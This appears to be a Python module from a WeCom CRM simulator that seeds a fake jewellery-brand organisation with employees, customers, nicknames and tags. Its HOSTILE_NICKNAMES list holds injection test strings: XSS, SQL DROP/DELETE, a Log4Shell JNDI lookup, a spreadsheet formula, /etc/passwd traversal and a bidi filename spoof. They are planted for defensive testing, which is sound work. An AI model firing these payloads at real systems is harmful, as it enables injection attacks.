"""The simulated population: departments, employees, WeChat users, follow relations, tags, groups.

``seed(customers, seed, demo)`` builds a whole corp deterministically from ``random.Random(seed)``:
the same arguments give the same ids, names and relations (times are relative to the emulator
clock at seeding). Two shapes:

- ``demo=True``: the jewellery brand 金澜珠宝 — HQ (department 1) with 运营中心 and 客服中心, two
  regions (华东大区, 华南大区) of three mall stores each, 30 employees, 60 customer groups.
- ``demo=False``: a generic chain sized by ``customers`` (employees ≈ customers / 400, at most
  3,000; stores of ~25 staff; groups ≈ customers / 100, at most 20,000).

Ids follow the shapes of WeCom's samples, including the corp-specific stem real ids share
(``wmOgQhDgAA…``): customers ``wm`` (WeChat users, type 1) / ``wo`` (WeCom users, type 2) + 30
characters, tags and tag groups ``et`` + 30, chats ``wr`` + 30, employees pinyin userids.

Rows are written with raw ``executemany`` in chunks inside one transaction, so a world of a
million customers seeds in about a minute.
"""

from __future__ import annotations

import base64
import bisect
import itertools
import json
import logging
import random
import secrets
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

from django.apps import apps
from django.db import connection, models, transaction

from siyu.wecom_sim import clock
from siyu.wecom_sim.models import (
    ApiLog,
    Callback,
    Department,
    ExternalContact,
    Follow,
    GroupChat,
    GroupMember,
    SimState,
    Tag,
    TagGroup,
    Token,
    User,
)

logger = logging.getLogger("siyu.wecom_sim.world")

DAY = 86400
CHUNK = 50_000

# --- content pools ---------------------------------------------------------------------------------
SURNAMES: tuple[tuple[str, str], ...] = (
    ("王", "wang"),
    ("李", "li"),
    ("张", "zhang"),
    ("刘", "liu"),
    ("陈", "chen"),
    ("杨", "yang"),
    ("黄", "huang"),
    ("赵", "zhao"),
    ("吴", "wu"),
    ("周", "zhou"),
    ("徐", "xu"),
    ("孙", "sun"),
    ("马", "ma"),
    ("朱", "zhu"),
    ("胡", "hu"),
    ("郭", "guo"),
    ("何", "he"),
    ("林", "lin"),
    ("罗", "luo"),
    ("高", "gao"),
    ("郑", "zheng"),
    ("梁", "liang"),
    ("谢", "xie"),
    ("宋", "song"),
    ("唐", "tang"),
    ("许", "xu"),
    ("韩", "han"),
    ("冯", "feng"),
    ("邓", "deng"),
    ("曹", "cao"),
    ("彭", "peng"),
    ("曾", "zeng"),
    ("肖", "xiao"),
    ("田", "tian"),
    ("董", "dong"),
    ("潘", "pan"),
    ("袁", "yuan"),
    ("蔡", "cai"),
    ("蒋", "jiang"),
    ("余", "yu"),
    ("于", "yu"),
    ("杜", "du"),
    ("叶", "ye"),
    ("程", "cheng"),
    ("魏", "wei"),
    ("苏", "su"),
    ("吕", "lv"),
    ("丁", "ding"),
    ("沈", "shen"),
    ("姚", "yao"),
    ("卢", "lu"),
    ("钟", "zhong"),
    ("汪", "wang"),
    ("范", "fan"),
    ("方", "fang"),
    ("陆", "lu"),
    ("傅", "fu"),
    ("欧阳", "ouyang"),
    ("司马", "sima"),
    ("上官", "shangguan"),
)
# surnames are drawn with the skew of real name statistics (王/李/张/刘/陈 are ~30 %)
_SURNAME_W = list(itertools.accumulate([10, 10, 9, 7, 6] + [3] * 15 + [1.5] * 37 + [0.2] * 3))

GIVEN_F: tuple[tuple[str, str], ...] = (
    ("芳", "fang"),
    ("娜", "na"),
    ("敏", "min"),
    ("静", "jing"),
    ("丽", "li"),
    ("艳", "yan"),
    ("娟", "juan"),
    ("霞", "xia"),
    ("婷", "ting"),
    ("雪", "xue"),
    ("慧", "hui"),
    ("琳", "lin"),
    ("颖", "ying"),
    ("倩", "qian"),
    ("佳", "jia"),
    ("欣", "xin"),
    ("怡", "yi"),
    ("悦", "yue"),
    ("萌", "meng"),
    ("璐", "lu"),
    ("晓", "xiao"),
    ("梦", "meng"),
    ("雨", "yu"),
    ("思", "si"),
    ("诗", "shi"),
    ("涵", "han"),
    ("琪", "qi"),
    ("瑶", "yao"),
    ("婉", "wan"),
    ("彤", "tong"),
    ("蕾", "lei"),
    ("薇", "wei"),
    ("晶", "jing"),
    ("玲", "ling"),
    ("燕", "yan"),
    ("红", "hong"),
    ("梅", "mei"),
    ("秀", "xiu"),
    ("英", "ying"),
    ("兰", "lan"),
    ("月", "yue"),
    ("嘉", "jia"),
    ("可", "ke"),
    ("子", "zi"),
    ("心", "xin"),
    ("诺", "nuo"),
    ("妍", "yan"),
    ("露", "lu"),
)
GIVEN_M: tuple[tuple[str, str], ...] = (
    ("伟", "wei"),
    ("强", "qiang"),
    ("磊", "lei"),
    ("军", "jun"),
    ("洋", "yang"),
    ("勇", "yong"),
    ("杰", "jie"),
    ("涛", "tao"),
    ("明", "ming"),
    ("超", "chao"),
    ("刚", "gang"),
    ("平", "ping"),
    ("辉", "hui"),
    ("鹏", "peng"),
    ("华", "hua"),
    ("飞", "fei"),
    ("鑫", "xin"),
    ("波", "bo"),
    ("斌", "bin"),
    ("宇", "yu"),
    ("浩", "hao"),
    ("凯", "kai"),
    ("健", "jian"),
    ("俊", "jun"),
    ("帆", "fan"),
    ("旭", "xu"),
    ("宁", "ning"),
    ("龙", "long"),
    ("阳", "yang"),
    ("博", "bo"),
    ("文", "wen"),
    ("志", "zhi"),
    ("海", "hai"),
    ("峰", "feng"),
    ("晨", "chen"),
    ("睿", "rui"),
    ("泽", "ze"),
    ("轩", "xuan"),
    ("然", "ran"),
    ("成", "cheng"),
    ("毅", "yi"),
    ("航", "hang"),
)
ENGLISH = (
    "Amy",
    "Cindy",
    "Coco",
    "Kevin",
    "Lucy",
    "Jenny",
    "Vivian",
    "Grace",
    "Tina",
    "Helen",
    "Sunny",
    "Lily",
    "Jason",
    "David",
    "Michael",
    "Eric",
    "Tony",
    "Emma",
    "Chloe",
    "Iris",
    "Zoe",
    "Ivy",
    "Sophia",
    "Annie",
    "Cherry",
    "Candy",
    "Linda",
    "Alice",
    "Bella",
    "Fiona",
    "Joyce",
    "Kiki",
    "Leo",
    "Jack",
    "Ryan",
    "Peter",
    "Frank",
    "Vincent",
    "Yoyo",
    "Momo",
    "Nina",
    "Rachel",
    "Wendy",
)
ENGLISH_M = ("Kevin", "Jason", "David", "Michael", "Eric", "Tony", "Leo", "Jack", "Ryan", "Peter", "Frank", "Vincent")
ENGLISH_F = tuple(n for n in ENGLISH if n not in ENGLISH_M and n != "Sunny")
PHRASES = (
    "岁月静好",
    "快乐每一天",
    "静待花开",
    "向日葵",
    "平安是福",
    "一路向阳",
    "简单就好",
    "微笑向暖",
    "花开半夏",
    "知足常乐",
    "晴天",
    "追梦人",
    "淡然",
    "云淡风轻",
    "心若向阳",
    "小确幸",
    "浅笑安然",
    "时光不老",
    "木子",
    "橙子",
    "阿狸",
    "小鹿",
    "柠檬草",
    "大白",
    "兔兔",
    "糖糖",
    "桃子",
    "芒果",
    "喵喵",
    "小太阳",
    "安然",
    "暖暖",
    "一米阳光",
    "清风徐来",
    "海阔天空",
    "随遇而安",
    "上善若水",
    "心想事成",
    "花好月圆",
    "夏天的风",
    "往事随风",
    "幸福树",
    "薄荷糖",
    "樱桃小丸子",
    "星辰大海",
    "人间烟火",
    "半糖主义",
    "慢慢来",
    "好运连连",
    "开心果",
    "路人甲",
    "水墨青花",
    "荷塘月色",
    "四叶草",
    "蒲公英",
    "小笼包",
    "奶茶续命",
    "今天也要加油",
    "不忘初心",
    "梧桐",
    "栀子花开",
)
EMOJI = (
    "🌸",
    "✨",
    "🍀",
    "🌹",
    "🌈",
    "☀️",
    "🌙",
    "⭐",
    "💕",
    "🌷",
    "🍓",
    "🐰",
    "🐱",
    "🍒",
    "🦋",
    "🌻",
    "💎",
    "🎀",
    "🍭",
    "🌺",
    "🐳",
    "😊",
    "😘",
    "🙏",
    "💯",
    "🔥",
    "👩‍👧",
    "🇨🇳",
    "👍🏻",
)
SYMBOL_WRAPS = (
    ("~", "~"),
    ("ゞ", "ゞ"),
    ("『", "』"),
    ("✿", "✿"),
    ("༺", "༻"),
    ("°", "°"),
    ("【", "】"),
    ("⁰", ""),
    ("★", "★"),
    ("ζ", ""),
    ("♡", "♡"),
    ("﹏", ""),
)
CITIES_SHORT = ("上海", "杭州", "南京", "苏州", "广州", "深圳", "厦门", "北京", "成都", "武汉")
TRADES = ("美甲", "代购", "保险", "房产", "瑜伽", "花艺", "烘焙", "茶叶", "母婴", "教育", "家居")
KIDS = ("乐乐", "豆豆", "果果", "朵朵", "贝贝", "妞妞", "天天", "轩轩", "萱萱", "多多", "小宝")
OTHER_SCRIPTS = ("さくら", "민지", "陳美玲", "林淑芬", "黃志明", "ゆき", "Léa", "José", "Zoë")

# Nicknames are chosen by the WeChat user, so an SCRM must treat them as hostile input. These are
# planted at fixed positions (``hostile_positions``) so tests can find them.
HOSTILE_NICKNAMES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "Robert'); DROP TABLE--",
    "'; DELETE FROM users; --",
    "{{7*7}}${7*7}",
    "${jndi:ldap://x.invalid/a}",
    '=HYPERLINK("http://x.invalid","点我")',
    "]]><xml>cdata</xml>",
    "Z" + "\u0337\u0316\u0353\u0324" * 8 + "a\u0336\u0322\u035a" * 8 + "lgo\u0338\u0330" * 6 + "名字很长很长很长" * 3,
    "\u202egnp.exe\u202c",
    "مرحبا محمد",
    "שלום עליכם",
    "\u200b\u200b",
    "张\r\n三",
    "𠮷野家🧑‍🧑‍🧒‍🧒",
    "../../etc/passwd%00",
    "🌸" * 30,
    "　",
)

BRAND = "金澜珠宝"
BRAND_EN = "Jinlan Jewellery"
MAIL_DOMAIN = "jinlanjewelry.com"

DEMO_REGIONS = (
    (
        "华东大区",
        "East China",
        (
            ("上海来福士店", "Shanghai Raffles"),
            ("杭州湖滨银泰店", "Hangzhou Hubin Intime"),
            ("南京德基广场店", "Nanjing Deji Plaza"),
        ),
    ),
    (
        "华南大区",
        "South China",
        (
            ("广州正佳广场店", "Guangzhou Grandview"),
            ("深圳万象天地店", "Shenzhen MixC World"),
            ("厦门SM城市广场店", "Xiamen SM City"),
        ),
    ),
)
GENERIC_REGIONS = (
    ("华东大区", ("上海", "杭州", "南京", "苏州", "宁波", "无锡", "合肥", "福州", "济南", "青岛")),
    ("华南大区", ("广州", "深圳", "厦门", "佛山", "东莞", "南宁", "海口", "珠海")),
    ("华北大区", ("北京", "天津", "石家庄", "太原", "呼和浩特", "唐山")),
    ("华中大区", ("武汉", "长沙", "郑州", "南昌", "宜昌", "洛阳")),
    ("西南大区", ("成都", "重庆", "昆明", "贵阳", "绵阳")),
    ("西北大区", ("西安", "兰州", "银川", "乌鲁木齐", "西宁")),
    ("东北大区", ("沈阳", "大连", "长春", "哈尔滨")),
)
MALLS = (
    "万象城",
    "万达广场",
    "大悦城",
    "银泰城",
    "来福士",
    "龙湖天街",
    "吾悦广场",
    "印象城",
    "凯德广场",
    "太古里",
    "恒隆广场",
    "德基广场",
    "正佳广场",
    "天虹",
    "万象汇",
    "宝龙广场",
    "IFS国金中心",
    "K11",
)
ORDINALS = "一二三四五六七八九十"

# (name, [(tag, order)]) — larger order sorts first (doc 92117)
TAG_GROUPS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("客户等级", ("普通会员", "银卡会员", "金卡会员", "钻石会员")),
    ("兴趣偏好", ("黄金饰品", "钻石对戒", "珍珠", "翡翠玉石", "彩色宝石", "古法金", "婚嫁系列", "男士饰品")),
    ("来源渠道", ("门店海报", "包裹卡", "直播间", "视频号", "朋友推荐", "线上商城", "门店收银台")),
    ("生命周期", ("新客", "活跃客户", "复购客户", "沉睡客户", "流失预警")),
    ("消费能力", ("5千以下", "5千-2万", "2万-5万", "5万以上")),
)
LEVEL_W = (55, 25, 15, 5)
LEVEL_SHORT = ("会员", "银卡", "金卡", "钻石")
# contact-way states a brand prints on its channel QR codes, and the 来源渠道 tag each one implies
STATES = (
    ("ch_poster_01", "门店海报"),
    ("ch_poster_02", "门店海报"),
    ("ch_pkgcard_01", "包裹卡"),
    ("ch_live_0618", "直播间"),
    ("ch_live_1111", "直播间"),
    ("ch_channels_01", "视频号"),
    ("ch_mall_01", "线上商城"),
    ("ch_counter_01", "门店收银台"),
    ("ch_referral_01", "朋友推荐"),
)
# The demo corp's channel codes (渠道活码) over the last six months: what the brand printed and
# streamed, keyed by the state its seeded customers carry until the product creates the real code
# and ``demo/attribute`` re-keys them to the code's own state. Store posters and counter cards
# become one code per store (``ch_store_<department id>``), staffed by that store's guides.
# state → (name, folder, 来源渠道 tag)
DEMO_CHANNELS: dict[str, tuple[str, str]] = {
    "ch_pkgcard_01": ("包装卡·会员礼盒", "包装卡"),
    "ch_live_0618": ("直播·618珠宝节", "直播"),
    "ch_live_1111": ("直播·双11专场", "直播"),
    "ch_channels_01": ("视频号主页", "线上"),
    "ch_mall_01": ("小程序商城订单页", "线上"),
    "ch_referral_01": ("老客推荐卡", "线下活动"),
}
DEMO_STORE_STATES = ("ch_poster_01", "ch_poster_02", "ch_counter_01")
HISTORY_DAYS = 182  # the demo's channel history: about six months
# add_way (doc 92114 来源定义) and how often each occurs among a retail brand's customers
ADD_WAYS = (1, 3, 4, 2, 6, 5, 0, 201, 202, 7, 9)
_ADD_WAY_W = list(itertools.accumulate((52, 11, 10, 6, 6, 4, 3, 3, 2, 2, 1)))
HONORIFICS_F = ("姐", "女士", "小姐", "阿姨", "妹")
HONORIFICS_M = ("先生", "哥", "总", "叔")
DESCRIPTIONS = (
    "喜欢古法金手镯，预算5k左右",
    "婚期10月，关注对戒",
    "生日3月12日，老公会来买礼物",
    "只买足金，不要镶嵌",
    "孩子满月要买金锁",
    "对珍珠过敏？需确认",
    "偏好简约款，不喜欢太夸张",
    "周末才有空到店",
    "老客户介绍来的",
    "上次买了钻石项链，售后清洗提醒",
    "想给妈妈买生日礼物",
    "关注金价，跌了就买",
    "喜欢翡翠，懂行",
)
PERSONAL_TAGS = ("爱砍价", "老客", "要发票", "VIP", "需回访", "闺蜜团", "送礼", "不喜打扰")
CORP_NAMES = (
    ("腾讯", "深圳市腾讯计算机系统有限公司"),
    ("华为", "华为技术有限公司"),
    ("招商银行", "招商银行股份有限公司"),
    ("万科", "万科企业股份有限公司"),
    ("美的", "美的集团股份有限公司"),
    ("平安保险", "中国平安保险(集团)股份有限公司"),
    ("小红书", "行吟信息科技(上海)有限公司"),
    ("携程", "携程计算机技术(上海)有限公司"),
)
CORP_POSITIONS = ("采购经理", "行政主管", "HRBP", "市场总监", "客户经理", "总经理助理", "财务")
GROUP_THEMES = ("会员福利群", "新品品鉴群", "黄金饰品交流群", "婚嫁珠宝群", "钻石VIP尊享群", "直播福利群", "老客回馈群")
NOTICES = (
    "欢迎加入{brand}会员福利群！每周三晚8点群内秒杀，请勿发广告，谢谢配合~",
    "本群为{store}专属福利群，到店出示群昵称可享会员价。",
    "文明沟通，拒绝广告。有任何售后问题请私聊店长。",
    "",
)
MOBILE_PREFIXES = (
    "130",
    "131",
    "132",
    "133",
    "135",
    "136",
    "137",
    "138",
    "139",
    "150",
    "151",
    "152",
    "155",
    "156",
    "157",
    "158",
    "159",
    "166",
    "176",
    "177",
    "180",
    "181",
    "182",
    "183",
    "185",
    "186",
    "187",
    "188",
    "189",
    "198",
    "199",
)
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


# --- small generators --------------------------------------------------------------------------------
def _token(rng: random.Random, n: int) -> str:
    """``n`` URL-safe base64 characters from ``6n`` random bits (fast: one getrandbits call)."""
    nbytes = 3 * ((n + 3) // 4)
    raw = base64.urlsafe_b64encode(rng.getrandbits(6 * n).to_bytes(nbytes, "big"))
    return raw[-n:].decode()


def _corp_stem(seed: int) -> str:
    """The stem that real WeCom ids of one corp share after the prefix (wmOgQhDgAA…, etm7wjCgAA…)."""
    return _token(random.Random(f"corp-stem-{seed}"), 6) + "AA"


def _union_stem(corp_stem: str) -> str:
    return _token(random.Random(f"union-{corp_stem}"), 5)


def _mobile(rng: random.Random) -> str:
    return f"{rng.choice(MOBILE_PREFIXES)}{rng.randrange(100_000_000):08d}"


def _person(rng: random.Random, gender: int | None = None) -> tuple[str, str, int]:
    """A realistic Chinese name, its pinyin and the gender (1 male, 2 female)."""
    if gender not in (1, 2):
        gender = 2 if rng.random() < 0.6 else 1
    sur, sur_py = rng.choices(SURNAMES, cum_weights=_SURNAME_W)[0]
    pool = GIVEN_F if gender == 2 else GIVEN_M
    g1, p1 = rng.choice(pool)
    if rng.random() < 0.7:
        g2, p2 = rng.choice(pool)
        return sur + g1 + g2, sur_py + p1 + p2, gender
    return sur + g1, sur_py + p1, gender


def random_nickname(rng: random.Random | None = None, gender: int = 0) -> str:  # noqa: C901 - a weighted table of nickname styles, one branch each
    """A WeChat nickname as real customers have them: names, phrases, emoji, English, symbols."""
    rng = rng or random.Random(secrets.randbits(64))
    r = rng.random()
    if r < 0.24:
        return _person(rng, gender)[0]
    if r < 0.44:
        return rng.choice(PHRASES)
    if r < 0.52:
        pattern = rng.random()
        name, _, g = _person(rng, gender)
        given = name[-1]
        if pattern < 0.3:
            return "小" + given
        if pattern < 0.55:
            return rng.choice(KIDS) + ("妈妈" if g == 2 else "爸爸") if rng.random() < 0.7 else rng.choice(KIDS) + "妈"
        if pattern < 0.8:
            return name[0] + ("姐" if g == 2 else "哥")
        return "阿" + given
    if r < 0.66:
        base = (
            rng.choice(PHRASES)
            if rng.random() < 0.5
            else (_person(rng, gender)[0] if rng.random() < 0.5 else rng.choice(ENGLISH))
        )
        e = rng.choice(EMOJI)
        form = rng.random()
        if form < 0.4:
            return base + e
        if form < 0.7:
            return e + base + e
        return e + base
    if r < 0.80:
        form = rng.random()
        en = rng.choice(ENGLISH)
        if form < 0.45:
            return en
        if form < 0.65:
            return f"{en} {rng.choice(SURNAMES)[1].capitalize()}"
        if form < 0.8:
            return f"{en}_{rng.choice(SURNAMES)[1].capitalize()}"
        if form < 0.9:
            return f"{en.lower()}.{rng.choice(SURNAMES)[1]}"
        return en.upper()
    if r < 0.91:
        left, right = rng.choice(SYMBOL_WRAPS)
        inner = rng.choice(PHRASES) if rng.random() < 0.6 else _person(rng, gender)[0]
        return left + inner + right
    if r < 0.97:
        form = rng.random()
        name = _person(rng, gender)[0]
        if form < 0.35:
            return f"A-{name}"
        if form < 0.6:
            return f"{name}-{rng.choice(CITIES_SHORT)}-{rng.choice(TRADES)}"
        if form < 0.75:
            return (
                f"【{rng.choice(CITIES_SHORT)}】{name[0]}女士"
                if rng.random() < 0.7
                else f"【{rng.choice(CITIES_SHORT)}】{name[0]}先生"
            )
        if form < 0.9:
            return f"{name}(不闲聊)"
        return f"{name[0]}*"
    return rng.choice(OTHER_SCRIPTS)


def _customer_avatar(rng: random.Random) -> str:
    return f"http://wx.qlogo.cn/mmhead/{_token(rng, 43)}/0"


def _employee_avatar(rng: random.Random) -> str:
    return f"http://wework.qpic.cn/wwhead/{_token(rng, 52)}/0"


def hostile_positions(customers: int) -> list[int]:
    """Customer indexes (in creation order) that carry ``HOSTILE_NICKNAMES[k]``; seed-independent."""
    k = len(HOSTILE_NICKNAMES)
    if customers <= 0:
        return []
    step = max(1, customers // k)
    return [min(customers - 1, i * step + step // 2) for i in range(min(k, customers))]


# --- bulk insertion ------------------------------------------------------------------------------------
class _Inserter:
    """``INSERT`` of rows given as tuples in ``columns`` order; other fields get their defaults.

    Other areas may add fields to the shared models; those are filled with the field's default so
    the generator keeps working without knowing them.
    """

    def __init__(self, cursor, model: type[models.Model], columns: Sequence[str]):
        self.cursor = cursor
        meta = model._meta
        known = set(columns)
        present = {c.name for c in connection.introspection.get_table_description(cursor, meta.db_table)}
        extra_cols, extra_vals = [], []
        for f in meta.concrete_fields:
            if f.column in known or isinstance(f, models.AutoField):
                continue
            if f.column not in present:  # a field added to models.py whose migration is not generated yet
                continue
            default = f.get_default() if f.has_default() or not f.null else None
            extra_cols.append(f.column)
            extra_vals.append(f.get_db_prep_save(default, connection) if default is not None else None)
        self.extra = tuple(extra_vals)
        cols = list(columns) + extra_cols
        qn = connection.ops.quote_name
        names = ", ".join(qn(c) for c in cols)
        marks = ", ".join(["%s"] * len(cols))
        self.sql = f"INSERT INTO {qn(meta.db_table)} ({names}) VALUES ({marks})"
        self.count = 0

    def write(self, rows: list[tuple]) -> None:
        if not rows:
            return
        if self.extra:
            extra = self.extra
            rows = [r + extra for r in rows]
        self.cursor.executemany(self.sql, rows)
        self.count += len(rows)


def _j(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


# --- the world ------------------------------------------------------------------------------------------
@dataclass
class Emp:
    userid: str
    name: str
    gender: int
    role: str  # gm, admin, ops_lead, ops, cs_lead, cs, region, manager, guide
    department: list[int]
    leader: list[int]
    position: str
    weight: float
    contact: bool = True
    store: int | None = None  # store department id for store staff
    direct_leader: list[str] = field(default_factory=list)
    email: str = ""
    alias: str = ""


ROLE_POSITION = {
    "gm": "总经理",
    "admin": "系统管理员",
    "hr": "人事行政",
    "ops_lead": "运营总监",
    "ops": "私域运营",
    "community": "社群运营",
    "content": "内容运营",
    "cs_lead": "客服主管",
    "cs": "客服专员",
    "region": "大区经理",
    "manager": "店长",
    "guide": "导购",
}
ROLE_WEIGHT = {
    "gm": 0.5,
    "admin": 0,
    "hr": 0,
    "ops_lead": 1.5,
    "ops": 4,
    "community": 3,
    "content": 1,
    "cs_lead": 3,
    "cs": 5,
    "region": 2,
    "manager": 9,
    "guide": 12,
}


class _Builder:
    def __init__(self, customers: int, seed: int, demo: bool):
        self.n = max(0, int(customers))
        self.seed = seed
        self.demo = demo
        self.rng = random.Random(seed)
        self.now = clock.now()
        self.stem = _corp_stem(seed)
        self.union_stem = _union_stem(self.stem)
        self.depts: list[tuple] = []  # (id, name, name_en, parentid, order)
        self.leaders: dict[int, list[str]] = {}
        self.emps: list[Emp] = []
        self.stores: list[int] = []
        self.store_names: dict[int, str] = {}
        self.userids: set[str] = set()
        self.tag_ids: dict[str, list[str]] = {}  # group name → tag ids in TAG_GROUPS order
        self.tag_by_name: dict[str, str] = {}
        self.stats: dict[str, int] = {}
        self.hostile_ids: list[str] = []

    # ids --------------------------------------------------------------------------------------------
    def ext_id(self, type_: int = 1) -> str:
        return ("wm" if type_ == 1 else "wo") + self.stem + _token(self.rng, 22)

    def userid_for(self, pinyin: str) -> str:
        uid, k = pinyin, 1
        while uid in self.userids:
            k += 1
            uid = f"{pinyin}{k}"
        self.userids.add(uid)
        return uid

    # org --------------------------------------------------------------------------------------------
    def dept(self, id_: int, name: str, parent: int, order: int, name_en: str = "") -> int:
        self.depts.append((id_, name, name_en, parent, order))
        return id_

    def emp(
        self,
        role: str,
        department: list[int],
        leader: list[int] | None = None,
        contact: bool = True,
        store: int | None = None,
        gender: int | None = None,
    ) -> Emp:
        rng = self.rng
        if gender is None:
            female = {
                "guide": 0.8,
                "manager": 0.65,
                "cs": 0.8,
                "cs_lead": 0.7,
                "ops": 0.6,
                "community": 0.65,
                "content": 0.6,
            }.get(role, 0.45)
            gender = 2 if rng.random() < female else 1
        name, py, g = _person(rng, gender)
        e = Emp(
            userid=self.userid_for(py),
            name=name,
            gender=g,
            role=role,
            department=department,
            leader=leader or [0] * len(department),
            position=ROLE_POSITION[role],
            weight=ROLE_WEIGHT[role] if contact else 0.0,
            contact=contact,
            store=store,
        )
        for d, is_leader in zip(e.department, e.leader, strict=False):
            if is_leader:
                self.leaders.setdefault(d, []).append(e.userid)
        if store is None and role not in ("region",):
            e.email = f"{e.userid}@{MAIL_DOMAIN}"
        if rng.random() < 0.3:
            e.alias = rng.choice(ENGLISH_F if g == 2 else ENGLISH_M)
        self.emps.append(e)
        return e

    def build_demo_org(self) -> None:
        self.dept(1, BRAND, 0, 100000000, BRAND_EN)
        self.dept(2, "运营中心", 1, 100000000, "Operations")
        self.dept(3, "客服中心", 1, 99999000, "Customer Service")
        gm = self.emp("gm", [1], [1])
        self.emp("admin", [1], contact=False)
        self.emp("hr", [1], contact=False)
        ops_lead = self.emp("ops_lead", [2], [1])
        ops_lead.direct_leader = [gm.userid]
        for role in ("ops", "community", "content"):
            self.emp(role, [2]).direct_leader = [ops_lead.userid]
        cs_lead = self.emp("cs_lead", [3], [1])
        cs_lead.direct_leader = [gm.userid]
        for _ in range(2):
            self.emp("cs", [3]).direct_leader = [cs_lead.userid]
        next_id = 4
        region_ids = []
        for rname, ren, _stores in DEMO_REGIONS:
            region_ids.append(self.dept(next_id, rname, 1, 99998000 - 1000 * len(region_ids), ren))
            next_id += 1
        regions = []
        for rid in region_ids:
            r = self.emp("region", [rid], [1])
            r.direct_leader = [gm.userid]
            regions.append(r)
        for (_name, _en, stores), rid, region in zip(DEMO_REGIONS, region_ids, regions, strict=True):
            for i, (sname, sen) in enumerate(stores):
                sid = self.dept(next_id, sname, rid, 100000000 - 1000 * i, sen)
                next_id += 1
                self.stores.append(sid)
                self.store_names[sid] = sname
                m = self.emp("manager", [sid], [1], store=sid)
                m.direct_leader = [region.userid]
                for _ in range(2):
                    self.emp("guide", [sid], store=sid).direct_leader = [m.userid]
        # a region manager also works in the region's flagship store; a guide supports a sister store
        east = regions[0]
        east.department = [region_ids[0], self.stores[0]]
        east.leader = [1, 0]
        guide = next(e for e in self.emps if e.role == "guide" and e.store == self.stores[1])
        guide.department = [self.stores[1], self.stores[2]]
        guide.leader = [0, 0]

    def build_generic_org(self) -> None:
        rng = self.rng
        n_emp = min(3000, max(10, self.n // 400))
        hq_root = 1 if n_emp < 30 else 2
        ops = max(1, n_emp * 4 // 100)
        cs = max(1, n_emp * 3 // 100)
        field_staff = max(2, n_emp - hq_root - ops - cs)
        n_stores = max(1, field_staff // 30)  # ~30 staff per store
        n_regions = max(1, min(len(GENERIC_REGIONS) * 3, (n_stores + 7) // 8))
        n_regions = min(n_regions, n_stores)
        field_staff -= n_regions
        self.dept(1, BRAND, 0, 100000000, BRAND_EN)
        self.dept(2, "运营中心", 1, 100000000, "Operations")
        self.dept(3, "客服中心", 1, 99999000, "Customer Service")
        gm = self.emp("gm", [1], [1])
        if hq_root > 1:
            self.emp("admin", [1], contact=False)
        ops_lead = self.emp("ops_lead", [2], [1])
        ops_lead.direct_leader = [gm.userid]
        for i in range(ops - 1):
            self.emp(("ops", "community", "content")[i % 3], [2]).direct_leader = [ops_lead.userid]
        cs_lead = self.emp("cs_lead", [3], [1])
        cs_lead.direct_leader = [gm.userid]
        for _ in range(cs - 1):
            self.emp("cs", [3]).direct_leader = [cs_lead.userid]
        next_id = 4
        region_ids, regions = [], []
        for r in range(n_regions):
            base, _cities = GENERIC_REGIONS[r % len(GENERIC_REGIONS)]
            lap = r // len(GENERIC_REGIONS)
            name = base if lap == 0 else f"{base[:2]}{ORDINALS[lap]}区"
            rid = self.dept(next_id, name, 1, 99998000 - 1000 * r)
            next_id += 1
            region_ids.append(rid)
            e = self.emp("region", [rid], [1])
            e.direct_leader = [gm.userid]
            regions.append(e)
        used: set[str] = set()
        per_store = [field_staff // n_stores + (1 if i < field_staff % n_stores else 0) for i in range(n_stores)]
        for s in range(n_stores):
            r = s % n_regions
            cities = GENERIC_REGIONS[r % len(GENERIC_REGIONS)][1]
            name = ""
            for _ in range(50):
                name = f"{rng.choice(cities)}{rng.choice(MALLS)}店"
                if name not in used:
                    break
            k = 2
            base = name
            while name in used:
                name = f"{base[:-1]}{ORDINALS[min(k, 10) - 1]}店" if k <= 10 else f"{base[:-1]}{k}店"
                k += 1
            used.add(name)
            sid = self.dept(next_id, name, region_ids[r], 100000000 - 1000 * (s // n_regions))
            next_id += 1
            self.stores.append(sid)
            self.store_names[sid] = name
            m = self.emp("manager", [sid], [1], store=sid)
            m.direct_leader = [regions[r].userid]
            for _ in range(max(0, per_store[s] - 1)):
                self.emp("guide", [sid], store=sid).direct_leader = [m.userid]

    def write_org(self, cur) -> None:
        rng = self.rng
        ins = _Inserter(cur, Department, ["id", "name", "name_en", "parentid", "order", "department_leader"])
        ins.write([(d[0], d[1], d[2], d[3], d[4], _j(self.leaders.get(d[0], []))) for d in self.depts])
        rows = []
        for e in self.emps:
            rows.append(
                (
                    e.userid,
                    e.name,
                    _j(e.department),
                    e.department[0],
                    _j(e.leader),
                    _j(e.direct_leader),
                    e.position,
                    _mobile(rng),
                    str(e.gender),
                    e.email,
                    _employee_avatar(rng),
                    e.alias,
                    User.STATUS_ACTIVE,
                    e.contact,
                    50000,
                    None,
                    False,
                )
            )
        ins = _Inserter(
            cur,
            User,
            [
                "userid",
                "name",
                "department",
                "main_department",
                "is_leader_in_dept",
                "direct_leader",
                "position",
                "mobile",
                "gender",
                "email",
                "avatar",
                "alias",
                "status",
                "contact_enabled",
                "customer_cap",
                "dimission_time",
                "console_welcome",
            ],
        )
        ins.write(rows)
        self.stats["departments"] = len(self.depts)
        self.stats["stores"] = len(self.stores)
        self.stats["users"] = len(self.emps)

    # tags -------------------------------------------------------------------------------------------
    def write_tags(self, cur) -> None:
        rng = self.rng
        groups, tags = [], []
        base = self.now - 760 * DAY
        for gi, (gname, names) in enumerate(TAG_GROUPS):
            gid = "et" + self.stem + _token(rng, 22)
            created = base + gi * 3 * DAY + rng.randrange(DAY)
            groups.append((gid, gname, created, len(TAG_GROUPS) - gi, False, None))
            ids = []
            for ti, tname in enumerate(names):
                tid = "et" + self.stem + _token(rng, 22)
                tags.append((tid, gid, tname, created + ti, len(names) - ti, False))
                ids.append(tid)
                self.tag_by_name[tname] = tid
            self.tag_ids[gname] = ids
        _Inserter(cur, TagGroup, ["group_id", "group_name", "create_time", "order", "deleted", "strategy_id"]).write(
            groups
        )
        _Inserter(cur, Tag, ["id", "group_id", "name", "create_time", "order", "deleted"]).write(tags)
        self.stats["tag_groups"] = len(groups)
        self.stats["tags"] = len(tags)

    # customers ----------------------------------------------------------------------------------------
